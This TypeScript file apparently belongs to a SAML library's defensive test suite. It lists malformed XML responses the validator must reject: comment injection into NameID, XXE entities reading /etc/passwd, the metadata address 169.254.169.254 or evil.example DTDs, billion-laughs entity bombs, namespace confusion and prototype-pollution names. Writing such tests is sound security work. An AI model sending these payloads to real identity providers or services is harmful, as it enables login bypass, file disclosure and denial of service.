/** Attacks on how XML is read: what one reader skips or expands, and another takes for a part of a name. */
import { replacing, type TextChange } from '../../../kit/objects/saml-response.ts';
import { type Attack, caught, issued } from './attack.ts';

/** Places in the document, each by the text before which something is put. */
const places: Readonly<Record<string, string | RegExp>> = {
  'before the root': '<samlp:Response',
  'in the response': '<samlp:Status>',
  'before the assertion': '<saml:Assertion',
  'in the issuer': /(?<=<saml:Issuer>https:\/\/idp)/,
  'in the middle of NameID': '@vendor.example',
  'at the end of NameID': '</saml:NameID>',
  'in the audience': /(?<=<saml:Audience>https:)/,
  'in a value': '11</saml:AttributeValue>',
};

/** One row a place. */
function everywhere(text: string, refusedAs: string): readonly (readonly [string, string, TextChange])[] {
  return Object.entries(places).map(([where, at]) => {
    const put: TextChange = (xml) => replacing(at, `${text}${at instanceof RegExp ? '' : at}`)(xml);
    return [`${where}: ${text}`, refusedAs, put] as const;
  });
}

const doctype =
  (inside: string): TextChange =>
  (xml) =>
    `<!DOCTYPE r [${inside}]>${xml}`;
const inName = (text: string): TextChange => replacing('ada@vendor.example', text);
const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);

export const markupAttacks: readonly Attack[] = [
  ...caught(
    'Comment injection: CVE-2017-11427 to -11430, CVE-2018-0489 (Duo, 2018)',
    everywhere('<!---->', 'saml.xml_declaration'),
  ),
  ...issued('Comment injection by an own account at the provider (Duo, 2018)', [
    [
      'NameID ada@vendor.example<!---->.evil.example',
      'saml.xml_declaration',
      inName('ada@vendor.example<!---->.evil.example'),
    ],
    ['NameID ada<!-- -->@vendor.example', 'saml.xml_declaration', inName('ada<!-- -->@vendor.example')],
  ]),
  ...caught(
    'Processing instructions that some readers drop and others keep',
    everywhere('<?x y?>', 'saml.xml_instruction'),
  ),
  ...caught(
    'CDATA that canonicalisation dissolves and readers split text at',
    everywhere('<![CDATA[x]]>', 'saml.xml_declaration'),
  ),
  ...caught('External entities (OWASP XXE)', [
    ['a file', 'saml.xml_declaration', doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')],
    ['an address', 'saml.xml_declaration', doctype('<!ENTITY x SYSTEM "http://169.254.169.254/">')],
    [
      'a parameter entity',
      'saml.xml_declaration',
      doctype('<!ENTITY % x SYSTEM "http://evil.example/dtd"> %x;'),
    ],
    [
      'an external DTD',
      'saml.xml_declaration',
      (xml) => `<!DOCTYPE r SYSTEM "http://evil.example/dtd">${xml}`,
    ],
    [
      'a public DTD',
      'saml.xml_declaration',
      (xml) => `<!DOCTYPE r PUBLIC "-//x" "http://evil.example/dtd">${xml}`,
    ],
    ['without a declaration', 'saml.xml_entity', inName('&xxe;')],
    ['a DTD in small letters', 'saml.xml_declaration', (xml) => `<!doctype r []>${xml}`],
    ['after the root', 'saml.xml_declaration', (xml) => `${xml}<!DOCTYPE r []>`],
  ]),
  ...caught('Entity expansion (billion laughs, quadratic blow-up; CVE-2003-1564)', [
    ['ten levels of ten', 'saml.xml_declaration', doctype(`<!ENTITY l0 "ha">${laughs}`)],
    ['one large entity many times', 'saml.xml_declaration', doctype(`<!ENTITY l "${'a'.repeat(10_000)}">`)],
    ['an entity that names itself', 'saml.xml_declaration', doctype('<!ENTITY l "&l;">')],
  ]),
  ...caught('Attributes by default values of a DTD (XML 1.0, 3.3.2)', [
    ['an ID for every element', 'saml.xml_declaration', doctype('<!ATTLIST saml:Subject ID CDATA "x">')],
    [
      'a namespace by default',
      'saml.xml_declaration',
      doctype('<!ATTLIST samlp:Response xmlns CDATA "urn:x">'),
    ],
  ]),
  ...caught(
    'Two readers, two documents: ruby-saml, CVE-2025-25291 and -25292 (round trips, parser differentials)',
    [
      ['a declaration of another version', 'saml.xml_instruction', (xml) => `<?xml version="1.1"?>${xml}`],
      [
        'two declarations',
        'saml.xml_instruction',
        (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`,
      ],
      ['UTF-7', 'saml.xml_instruction', (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`],
      [
        'UTF-16 in name only',
        'saml.xml_instruction',
        (xml) => `<?xml version="1.0" encoding="UTF-16"?>${xml}`,
      ],
      [
        'an attribute twice',
        'saml.xml_attribute_repeated',
        replacing('<saml:Subject>', '<saml:Subject a="1" a="2">'),
      ],
      [
        'an attribute twice, by two prefixes',
        'saml.xml_attribute_repeated',
        replacing('<saml:Subject>', '<saml:Subject xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2">'),
      ],
      [
        'an ID twice in one tag',
        'saml.xml_attribute_repeated',
        replacing(/<saml:Assertion /, '<saml:Assertion ID="x" '),
      ],
      ['the end of CDATA in text', 'saml.xml_cdata_end', inName('ada]]>@vendor.example')],
      ['a second root', 'saml.xml_malformed', (xml) => `${xml}<x/>`],
      ['text after the root', 'saml.xml_malformed', (xml) => `${xml}x`],
      ['an end in other letters', 'saml.xml_malformed', replacing('</saml:Subject>', '</saml:subject>')],
      ['crossed tags', 'saml.xml_malformed', replacing('</saml:NameID>', '</saml:Subject>')],
      ['a tag in an attribute', 'saml.xml_malformed', replacing('<saml:Subject>', '<saml:Subject a="<b>">')],
      [
        'a line break in an attribute',
        'saml.xml_malformed',
        replacing('<saml:Subject>', '<saml:Subject a="b\nc">'),
      ],
      ['a NUL in the name', 'saml.xml_control_character', inName('ada\u0000@vendor.example')],
      ['a NUL by reference', 'saml.xml_entity', inName('ada&#0;@vendor.example')],
      ['half a character', 'saml.xml_control_character', inName('ada\ud800@vendor.example')],
      ['a control character by reference', 'saml.xml_entity', inName('ada&#27;@vendor.example')],
    ],
  ),
  ...caught('Namespace confusion ("The Fragile Lock", PortSwigger 2025; CVE-2025-66567, ruby-saml)', [
    [
      'xml bound anew',
      'saml.xml_namespace_forbidden',
      replacing('<saml:Subject>', '<saml:Subject xmlns:xml="urn:x">'),
    ],
    [
      'xmlns bound',
      'saml.xml_namespace_forbidden',
      replacing('<saml:Subject>', '<saml:Subject xmlns:xmlns="urn:x">'),
    ],
    [
      'a relative namespace',
      'saml.xml_namespace_forbidden',
      replacing('<saml:Subject>', '<saml:Subject xmlns:p="x">'),
    ],
    [
      'an empty namespace',
      'saml.xml_namespace_forbidden',
      replacing('<saml:Subject>', '<saml:Subject xmlns:p="">'),
    ],
    [
      'an undeclared prefix',
      'saml.xml_prefix_undeclared',
      replacing('<saml:Subject>', '<saml:Subject p:a="b">'),
    ],
    [
      'saml bound to something else inside',
      'saml.',
      replacing('<saml:Subject>', '<saml:Subject xmlns:saml="urn:x">'),
    ],
    [
      'the assertion in another namespace',
      'saml.',
      replacing(/<saml:Assertion /, '<saml:Assertion xmlns:saml="urn:x" '),
    ],
  ]),
  ...caught('Names that runtimes treat specially: prototype pollution (CVE-2019-10744 and its kin)', [
    [
      'an element __proto__',
      'saml.xml_name_forbidden',
      replacing('<saml:Subject>', '<__proto__/><saml:Subject>'),
    ],
    [
      'an attribute __proto__',
      'saml.xml_name_forbidden',
      replacing('<saml:Subject>', '<saml:Subject __proto__="x">'),
    ],
    [
      'a prefix constructor',
      'saml.xml_name_forbidden',
      replacing('<saml:Subject>', '<saml:Subject xmlns:constructor="urn:x">'),
    ],
    [
      'an attribute hasOwnProperty',
      'saml.xml_name_forbidden',
      replacing('<saml:Subject>', '<saml:Subject hasOwnProperty="x">'),
    ],
  ]),
  ...caught('Exhaustion by shape: XML bombs without entities (OWASP XML Security Cheat Sheet)', [
    ['a depth of ten thousand', 'saml.xml_too_deep', replacing('<saml:Subject>', '<a>'.repeat(10_000))],
    [
      'ten thousand elements',
      'saml.xml_too_many_elements',
      replacing('<saml:Subject>', `${'<a/>'.repeat(10_000)}<saml:Subject>`),
    ],
    [
      'a thousand attributes',
      'saml.xml_too_many_attributes',
      replacing(
        '<saml:Subject>',
        `<saml:Subject${Array.from({ length: 1000 }, (_, at) => ` a${at}=""`).join('')}>`,
      ),
    ],
    ['half a megabyte', 'saml.response_too_large', inName('a'.repeat(500_000))],
    [
      'a tag that never ends',
      'saml.xml_malformed',
      replacing('<saml:Subject>', `<saml:Subject ${' '.repeat(50_000)}`),
    ],
  ]),
];
